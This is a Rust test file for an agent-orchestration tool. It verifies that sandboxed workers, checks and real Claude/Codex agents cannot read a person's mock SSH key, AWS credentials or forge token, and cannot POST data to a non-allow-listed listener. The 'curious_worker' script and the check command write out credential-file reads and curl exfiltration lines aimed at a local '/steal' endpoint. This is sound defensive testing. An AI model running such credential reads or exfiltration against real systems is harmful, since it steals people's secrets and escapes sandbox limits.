//! Roles read and reach only what their job needs (issue 33): a worker after the person's
//! ssh key and a loopback listener off the allow-list, a check after the person's forge
//! token and the engine's environment, a setup installing from an allow-listed package
//! mirror — with shell roles; the same worker on the real claude and codex is in
//! `real_agents.rs`.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use crate::support::{both, breeze, git, repo_with, toml_task};

/// A listener on the engine's loopback that keeps whatever reaches it.
pub(crate) struct Sink {
    pub port: u16,
    pub received: Arc<Mutex<Vec<u8>>>,
}

impl Sink {
    pub(crate) fn start() -> Sink {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let kept = received.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut buffer = [0u8; 4096];
                if let Ok(n) = stream.read(&mut buffer) {
                    kept.lock().unwrap().extend_from_slice(&buffer[..n]);
                }
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
            }
        });
        Sink { port, received }
    }

    pub(crate) fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }
}

/// A person's home with the secrets of issue 33 in it.
pub(crate) fn home_with_secrets(dir: &Path) -> PathBuf {
    let home = dir.join("home");
    for (file, text) in [
        (".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY----- MOCK-KEY-1234\n"),
        (".config/gh/hosts.yml", "github.com:\n    oauth_token: gho_MOCKTOKEN5678\n"),
        (".aws/credentials", "[default]\naws_secret_access_key = MOCKAWS\n"),
        (".netrc", "machine example.com password MOCKNETRC\n"),
    ] {
        let path = home.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    home
}

const APPROVING_REVIEWER: &str = r#"#!/bin/sh
cat > /dev/null
echo '{"schema_version":"review-result.v1","verdict":"APPROVE","gaps":[]}'
"#;

/// A worker after the person's secrets: it records what each attempt got in its file.
fn curious_worker(sink: u16) -> String {
    format!(
        r#"#!/bin/sh
cat > /dev/null
{{
  cat "$HOME/.ssh/id_ed25519" >/dev/null 2>&1 && echo "key: READ" || echo "key: refused"
  cat "$HOME/.aws/credentials" >/dev/null 2>&1 && echo "aws: READ" || echo "aws: refused"
  curl -sS -f -m 10 -X POST -d key=stolen http://127.0.0.1:{sink}/steal >/dev/null 2>&1 && echo "post: SENT" || echo "post: refused"
  curl -sS -f -m 10 --noproxy '*' -X POST -d key=direct http://127.0.0.1:{sink}/direct >/dev/null 2>&1 && echo "direct: SENT" || echo "direct: refused"
}} > a.txt
printf '{{"schema_version":"worker-report.v1","status":"completed","summary":"ok"}}' > "$BREEZE_OUTPUT"
"#
    )
}

/// The shell roles of [`crate::support::shell_roles_config`], confined, with `extra` after
/// its `[sandbox]` table.
fn shell_config(root: &Path, extra: &str) -> String {
    format!("{}{extra}\n", crate::support::shell_roles_config(root, "require", 1))
}

fn repo(files: &[(&str, &str)], extra_config: &str) -> (tempfile::TempDir, PathBuf) {
    let (temp, root) = repo_with(files);
    let root = std::fs::canonicalize(&root).unwrap();
    crate::support::write(&root, "breeze.toml", &shell_config(&root, extra_config));
    git(&root, &["add", "-A"]);
    git(&root, &["commit", "-qm", "roles"]);
    (temp, root)
}

#[test]
fn a_worker_reads_none_of_the_persons_secrets_and_reaches_no_host_off_the_allow_list_on_record() {
    if !crate::support::landlock_or_skip() {
        return;
    }
    let sink = Sink::start();
    let plan = toml_task("1", "Curious", &["a.txt"], "");
    let (temp, root) = repo(
        &[
            ("plan.toml", &plan),
            ("roles/1.sh", &curious_worker(sink.port)),
            ("roles/reviewer.sh", APPROVING_REVIEWER),
        ],
        "",
    );
    let home = home_with_secrets(temp.path());
    let output =
        breeze().current_dir(&root).env("HOME", &home).args(["run", "plan.toml"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", both(&output));
    let landed = git(&root, &["show", "main:a.txt"]);
    assert_eq!(landed, "key: refused\naws: refused\npost: refused\ndirect: refused\n", "{landed}");
    assert_eq!(sink.received(), "", "nothing reached the listener");
    // Said at the start, journaled, and in the report.
    assert!(both(&output).contains("network allow-listed"), "{}", both(&output));
    let journal = crate::support::run_events(&root);
    let refused: Vec<serde_json::Value> = journal
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter(|event| {
            event["event"]["kind"] == "network_refused" || event["kind"] == "network_refused"
        })
        .collect();
    assert_eq!(refused.len(), 1, "{journal}");
    let text = refused[0].to_string();
    for part in [
        "\"task\":\"1\"",
        "\"by\":\"worker\"",
        "\"host\":\"127.0.0.1\"",
        &format!("\"port\":{}", sink.port),
        "POST",
    ] {
        assert!(text.contains(part), "{part} in {text}");
    }
    let report = breeze().current_dir(&root).env("HOME", &home).arg("report").output().unwrap();
    assert!(
        String::from_utf8_lossy(&report.stdout)
            .contains(&format!("- **1** worker: POST 127.0.0.1:{}", sink.port)),
        "{}",
        both(&report)
    );
}

#[test]
fn a_check_reads_no_token_file_and_gets_none_of_the_engines_secrets() {
    if !crate::support::landlock_or_skip() {
        return;
    }
    let worker = r#"#!/bin/sh
cat > /dev/null
echo done > a.txt
printf '{"schema_version":"worker-report.v1","status":"completed","summary":"ok"}' > "$BREEZE_OUTPUT"
"#;
    let plan = toml_task("1", "Plain", &["a.txt"], "");
    let check = r#"[review]
checks = [["sh", "-c", "echo \"token-var=${GITHUB_TOKEN:-none} aws-var=${AWS_SECRET_ACCESS_KEY:-none} path-kept=${PATH:+yes}\"; cat \"$HOME/.config/gh/hosts.yml\""]]
max_rounds = 1
"#;
    let (temp, root) = repo(
        &[("plan.toml", &plan), ("roles/1.sh", worker), ("roles/reviewer.sh", APPROVING_REVIEWER)],
        check,
    );
    let home = home_with_secrets(temp.path());
    let start = git(&root, &["rev-parse", "main"]);
    let output = breeze()
        .current_dir(&root)
        .env("HOME", &home)
        .env("GITHUB_TOKEN", "ghp_MOCKENGINETOKEN")
        .env("AWS_SECRET_ACCESS_KEY", "MOCKENGINEAWS")
        .args(["run", "plan.toml"])
        .output()
        .unwrap();
    assert_ne!(output.status.code(), Some(0), "the check must fail: {}", both(&output));
    let logs = breeze().current_dir(&root).env("HOME", &home).args(["logs", "1"]).output().unwrap();
    let logs = both(&logs);
    assert!(logs.contains("token-var=none aws-var=none path-kept=yes"), "{logs}");
    assert!(logs.contains("Permission denied"), "{logs}");
    assert!(!logs.contains("MOCKTOKEN5678") && !logs.contains("MOCKENGINE"), "{logs}");
    assert_eq!(git(&root, &["rev-parse", "main"]), start, "nothing landed");
}

/// A wheel of `tinypkg` 0.1 (a zip the test writes with Python's zipfile).
fn write_wheel(dir: &Path) {
    let script = r#"
import sys, zipfile
path = sys.argv[1] + "/tinypkg-0.1-py3-none-any.whl"
with zipfile.ZipFile(path, "w") as wheel:
    wheel.writestr("tinypkg/__init__.py", "VALUE = 'from-the-mirror'\n")
    wheel.writestr("tinypkg-0.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n")
    wheel.writestr("tinypkg-0.1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("tinypkg-0.1.dist-info/RECORD", "")
"#;
    let made =
        std::process::Command::new("python3").args(["-c", script]).arg(dir).output().unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
}

#[test]
fn a_setup_installs_from_an_allow_listed_package_mirror_and_not_from_another() {
    if !crate::support::landlock_or_skip() {
        return;
    }
    let mirror = tempfile::tempdir().unwrap();
    let simple = mirror.path().join("simple/tinypkg");
    std::fs::create_dir_all(&simple).unwrap();
    write_wheel(&simple);
    std::fs::write(
        simple.join("index.html"),
        "<a href=\"tinypkg-0.1-py3-none-any.whl\">tinypkg-0.1-py3-none-any.whl</a>\n",
    )
    .unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let mut server = std::process::Command::new("python3")
        .args(["-m", "http.server", &port.to_string(), "--bind", "127.0.0.1"])
        .current_dir(mirror.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let python = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    // The interpreter itself: pyenv's shim would rehash its shims, a folder setup may not write.
    let python = String::from_utf8_lossy(&python.stdout).trim().to_string();
    let worker = format!(
        r#"#!/bin/sh
cat > /dev/null
PYTHONPATH=vendor {python} -c 'import tinypkg; print(tinypkg.VALUE)' > a.txt
printf '{{"schema_version":"worker-report.v1","status":"completed","summary":"ok"}}' > "$BREEZE_OUTPUT"
"#
    );
    let setup = format!(
        "[worktree]\nsetup = [\"sh\", \"-c\", \"{python} -m pip install -q --disable-pip-version-check --no-cache-dir --index-url http://127.0.0.1:{port}/simple --target vendor tinypkg && ! curl -sS -f -m 5 https://pypi.org/simple/ >/dev/null 2>&1\"]\n"
    );
    let config = format!("network = [\"127.0.0.1:{port}\"]\n{setup}");
    let plan = toml_task("1", "Use the package", &["a.txt"], "");
    let (_temp, root) = repo(
        &[
            ("plan.toml", &plan),
            ("roles/1.sh", &worker),
            ("roles/reviewer.sh", APPROVING_REVIEWER),
            (".gitignore", "vendor/\n"),
        ],
        &config,
    );
    let output = breeze()
        .current_dir(&root)
        .args(["run", "plan.toml", "--skip-setup-check"])
        .output()
        .unwrap();
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(output.status.code(), Some(0), "{}", both(&output));
    assert_eq!(git(&root, &["show", "main:a.txt"]), "from-the-mirror\n");
    let journal = crate::support::run_events(&root);
    assert!(
        journal.contains("\"by\":\"worktree.setup\"") && journal.contains("pypi.org"),
        "{journal}"
    );
}

/// The worker of `backend` (the real CLI, confined) goes after the person's ssh key and a
/// loopback listener off the allow-list; its model API — the mock server on another
/// loopback port, streaming — keeps working through its namespace.
fn real_worker_after_secrets(backend: &str) {
    use crate::real_agents::{ModelServer, breeze_with_clis, clis, role_config};
    let Some(bin) = clis() else { return };
    let temp = tempfile::Builder::new().prefix("breeze-real-").tempdir_in("/tmp").unwrap();
    let sink = Sink::start();
    let plan = format!(
        "[[task]]\nid = \"1\"\ntitle = \"Add the greeting\"\ndod = \"src/one.txt names the task MOCK-SECRETS sink={}\"\nwrites = [\"src/one.txt\"]\n",
        sink.port
    );
    let (_repo_temp, root) = repo_with(&[("README.md", "mine\n"), ("plan.toml", &plan)]);
    let root = std::fs::canonicalize(root).unwrap();
    let shown = root.display().to_string();
    let server = ModelServer::start_with(temp.path(), &[("MOCK_REPO_ROOT", shown.as_str())]);
    crate::support::write(&root, "breeze.toml", &role_config(backend, "require", server.port));
    git(&root, &["add", "-A"]);
    git(&root, &["commit", "-qm", "team"]);
    let home = home_with_secrets(temp.path());
    let output = breeze_with_clis(&bin, &home, server.port)
        .current_dir(&root)
        .args(["run", "plan.toml"])
        .output()
        .unwrap();
    let text = both(&output);
    assert_eq!(output.status.code(), Some(0), "{backend}: {text}");
    assert!(text.contains("network allow-listed"), "{text}");
    let requests = server.requests();
    assert!(
        requests.contains("MOCK-SECRETS exit=1 key"),
        "{backend}: the key was not refused: {requests}"
    );
    assert!(!requests.contains("MOCK-KEY-1234"), "{backend}: the key reached the model");
    assert!(
        requests.contains("MOCK-SECRETS exit=22 post"),
        "{backend}: the POST was not refused: {requests}"
    );
    assert_eq!(sink.received(), "", "{backend}: nothing reached the listener");
    let journal = crate::support::run_events(&root);
    assert!(
        journal.lines().any(|line| line.contains("network_refused")
            && line.contains("\"by\":\"worker\"")
            && line.contains(&format!("\"port\":{}", sink.port))),
        "{backend}: {journal}"
    );
    assert!(git(&root, &["show", "main:src/one.txt"]).contains('1'), "the task landed");
}

#[test]
fn a_real_claude_worker_reads_no_key_reaches_no_other_host_and_its_model_api_works() {
    real_worker_after_secrets("claude");
}

#[test]
fn a_real_codex_worker_reads_no_key_reaches_no_other_host_and_its_model_api_works() {
    real_worker_after_secrets("codex");
}
